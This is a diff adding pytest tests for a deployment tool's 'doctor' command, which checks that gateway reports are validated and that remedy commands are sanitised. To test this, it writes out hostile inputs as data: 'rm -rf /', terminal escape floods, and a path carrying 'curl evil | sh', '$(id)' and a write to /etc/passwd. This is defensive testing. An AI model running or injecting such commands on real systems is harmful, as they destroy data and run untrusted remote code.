@@ -15,7 +15,7 @@ from yolodeploy.inventory.operations import OperationEvent
 from yolodeploy.inventory.sites import add_site, set_site_backed_up, set_site_k3s
 from yolodeploy.ops.doctor import examine
 from yolodeploy.ops.home import Home
-from yolodeploy.ops.site_doctor import Result, checks_of, meant
+from yolodeploy.ops.site_doctor import Mend, Result, checks_of, meant
 
 
 def event(code: str, level: str = "step", /, **fields: Any) -> OperationEvent:
@@ -49,6 +49,24 @@ def test_what_doctor_can_mend_names_doctor(mend: str, ending: str) -> None:
     assert one.remedy("en") == f"yolodeploy doctor plant/gw-1 {ending}"
 
 
+@pytest.mark.parametrize(
+    ("kind", "mend", "ending"),
+    [
+        ("safe", Mend.SAFE, "/etc/modules-load.d/yolodeploy-doctor.conf"),
+        ("asked", Mend.SAFE, "--fix --yes"),
+        ("asked", Mend.ALL, "/etc/modules-load.d/yolodeploy-doctor.conf"),
+    ],
+)
+def test_what_could_not_be_mended_names_what_a_person_does(
+    kind: str, mend: Mend, ending: str
+) -> None:
+    """Else they are told to run the same command for ever."""
+    lacks = report("gw-1", "modules_unloaded", "finding", fields={"modules": "vxlan"}, mend=kind)
+    [one] = checks_of("plant", (), [lacks, lacks], mend)
+    assert one.result is Result.FINDING
+    assert one.remedy("en").endswith(ending)
+
+
 def test_a_device_that_was_not_looked_at_is_a_finding_with_the_reason() -> None:
     found = checks_of("plant", (), [
         report("gw-1", "swap", "ok"),
@@ -80,6 +98,34 @@ def test_the_exit_code_tells_what_is_wrong_from_who_is_away(
     monkeypatch.setattr("yolodeploy.cli.doctor_gateways.start_doctor", lambda *_, **__: "op-1")
     monkeypatch.setattr("yolodeploy.cli.doctor_gateways._followed", lambda *_: ends)
     assert run("doctor", "plant", "-o", "json").code == code
+
+
+def test_what_is_no_report_is_left_out() -> None:
+    """A gateway says what it likes: no traceback, no check of its own making, no escapes."""
+    said: list[Any] = [
+        None, [], {"check": "swap"}, {"check": ["swap"], "result": "ok", "fields": {}},
+        {"check": "{x:99999999999}", "result": "finding", "fields": {}, "mend": []},
+        {"check": "swap", "result": "fine", "fields": {}},
+        {"check": "swap", "result": ["ok"], "fields": {}},
+        {"check": "swap", "result": "finding", "fields": {"places": "\x1b[2J\n" * 4000},
+         "mend": "rm -rf /"},
+    ]  # fmt: skip
+    events = [
+        event("play.step", host="gw-1", report={"report": "checks", "rows": rows})
+        for rows in (said, "rows", None, 7)
+    ]
+    [one] = checks_of("plant", (), events)
+    text = one.text("en") + one.remedy("en")
+    assert (one.check, one.mend, one.blocking) == ("swap", "", False)
+    assert text.isprintable()
+    assert len(text) < 5000
+
+
+def test_a_remedy_that_is_pasted_runs_nothing_that_a_gateway_thought_of() -> None:
+    lies = {"files": "/etc/x; curl evil | sh `id` $(id) > /etc/passwd '\"\\"}
+    [one] = checks_of("plant", (), [report("gw-1", "config_mode", "finding", fields=lies)])
+    assert one.remedy("en") == "chmod 600 /etc/x? curl evil ? sh ?id? ??id? ? /etc/passwd ???"
+    assert "$(id)" in one.text("en"), "the finding says what was said"
 
 
 def test_only_what_was_asked_about_is_shown() -> None:
